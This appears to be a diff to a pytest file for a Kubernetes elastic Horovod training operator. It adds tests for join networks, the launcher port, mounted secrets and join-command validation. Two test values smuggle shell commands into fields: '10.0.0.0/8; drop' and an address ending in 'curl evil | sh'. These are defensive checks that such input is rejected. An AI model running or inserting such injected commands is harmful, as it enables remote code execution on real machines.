@@ -18,7 +18,7 @@ import pytest
 from elastic_runtime.clock import utc_now
 from elastic_runtime.documents import from_json, to_json
 from elastic_runtime.errors import Conflict, InvalidDocument, InvalidSettings
-from elastic_runtime.kubernetes.resources import CONFIG_MAPS
+from elastic_runtime.kubernetes.resources import CONFIG_MAPS, PODS
 from elastic_runtime.net import certificates
 from elastic_runtime.run import runobjects
 from elastic_runtime.run.join import JoinSpec, JoinToken, OfferedToken, OfferedTokens, pin_of
@@ -39,7 +39,7 @@ from elastic_training.operators.elastic_horovod import ElasticHorovodOperator
 from elastic_training.scaling.request import ScaleState, judge
 from elastic_training.settings import Join, Recovery, Workers
 from tests.unit.provider.kubernetes_http import KubernetesServer, kubernetes_server
-from tests.unit.provider.kubernetes_objects import root_map
+from tests.unit.provider.kubernetes_objects import RUNNING, pod, root_map
 from tests.unit.provider.manifests_bench import SPEC, everything, objects_of, pods_of
 
 NOON = datetime(2026, 1, 2, 12, tzinfo=UTC)
@@ -65,7 +65,8 @@ def operator(**arguments: Any) -> ElasticHorovodOperator:
         (lambda: operator(workers=Workers(join=Join("10.0.0.5")), cluster="ray:head:8265/s"), "workers.join.address"),
         (lambda: operator(workers=Workers(join=Join("10.0.0.5")), cluster="spark://h:7077/s"), "workers.join.address"),
         (lambda: operator(workers=Workers(join=Join("10.0.0.5")), recovery=Recovery(mode="fixed")), "workers.join"),
-        (lambda: Join(networks="10.0.0.0/16"), "workers.join.networks"),
+        (lambda: Join(networks=5), "workers.join.networks"),
+        (lambda: Join(networks=["fe80::%1/64"]), "workers.join.networks"),
         (lambda: Join(networks=["10.0.0.5/16"]), "workers.join.networks"),
         (lambda: Join(networks=["0.0.0.0/0"]), "workers.join.networks"),
         (lambda: Join(networks=["10.0.0.0/8; drop"]), "workers.join.networks"),
@@ -134,14 +135,47 @@ def offered_in(server: KubernetesServer, root: str) -> tuple[OfferedToken, ...]:
     return from_json(OfferedTokens, annotations[runobjects.JOIN_TOKENS]).tokens
 
 
+def test_networks_may_be_templates_of_texts_with_commas() -> None:
+    values = {"{{ one }}": "10.0.0.0/16", "{{ both }}": "10.0.0.0/16, 10.1.0.0/16"}
+
+    def render(value: Any) -> Any:
+        return [values.get(each, each) for each in value] if isinstance(value, list) else values.get(value, value)
+
+    for given in (Join(networks=["{{ one }}", "10.1.0.0/16"]), Join(networks="{{ both }}")):
+        assert given.rendered(render).spec().networks == ("10.0.0.0/16", "10.1.0.0/16")
+
+
+def test_the_port_of_a_launcher_in_a_pod_is_fixed() -> None:
+    join = Join(networks=["10.0.0.0/16"], port=7500)
+    with pytest.raises(InvalidSettings, match="a launcher in a pod listens on port 7077"):
+        operator(workers=Workers(join=join), cluster="training", image="trainer:1").creating_cluster()
+
+
+def test_the_output_of_one_that_joined_is_on_its_machine() -> None:
+    assert (
+        KubernetesCluster("cloud").worker_log("run", "joined-1")
+        == "what elastic-join prints on the machine of joined-1"
+    )
+
+
 class TestPods:
+    def test_without_networks_there_would_be_a_policy_for_everybody(self) -> None:
+        with pytest.raises(InvalidSettings, match="no machine may connect to pods"):
+            objects_of(spec=replace(SPEC, join=JoinSpec()))
+
+    def test_a_dry_run_has_a_secret_with_all_that_is_mounted(self, spec: RunSpec) -> None:
+        [secret] = (each for each in objects_of(spec=spec).all() if each["kind"] == "Secret")
+        launcher, _ = pods_of(objects_of(spec=spec))
+        [items] = (each["secret"]["items"] for each in launcher["spec"]["volumes"] if "secret" in each)
+        assert {each["key"] for each in items} <= set(secret["data"])
+
     @pytest.fixture
     def spec(self) -> RunSpec:
         return replace(SPEC, join=JoinSpec(networks=("10.0.0.0/16",)))
 
     def test_the_launcher_alone_has_the_key_that_signs(self, spec: RunSpec) -> None:
-        for pod, there in zip(pods_of(objects_of(spec=spec)), (True, False), strict=True):
-            (tls,) = (each["secret"]["items"] for each in pod["spec"]["volumes"] if "secret" in each)
+        for role, there in zip(pods_of(objects_of(spec=spec)), (True, False), strict=True):
+            (tls,) = (each["secret"]["items"] for each in role["spec"]["volumes"] if "secret" in each)
             assert ({"key": "authority.key", "path": "authority.key"} in tls) is there
         launcher, _ = pods_of(objects_of())
         assert "authority.key" not in str(launcher)
@@ -172,6 +206,16 @@ class TestPods:
                 change = {"metadata": {"annotations": {runobjects.TERM: text}}}
                 server.run(server.place.change(CONFIG_MAPS, names.status, change))
 
+            annotate(to_json(term))
+            with pytest.raises(Conflict, match="listens now; try again"):  # Its pod is gone, and there is no other.
+                run(cluster.join_command(ref))
+            launcher = dict(pod(state=RUNNING, phase="Running").raw)
+            labels = {"labels": runobjects.labels(spec.name, spec.uid, Part.LAUNCHER)}
+            made = server.run(server.place.create(PODS, {**launcher, "metadata": launcher["metadata"] | labels}))
+            term = replace(term, holder=made.uid)
+            annotate(to_json(replace(term, address="10.1.2.3; curl evil | sh")))
+            with pytest.raises(InvalidDocument):
+                run(cluster.join_command(ref))
             annotate(to_json(replace(term, pin="")))
             with pytest.raises(Conflict, match="of a version that machines cannot join"):
                 run(cluster.join_command(ref))
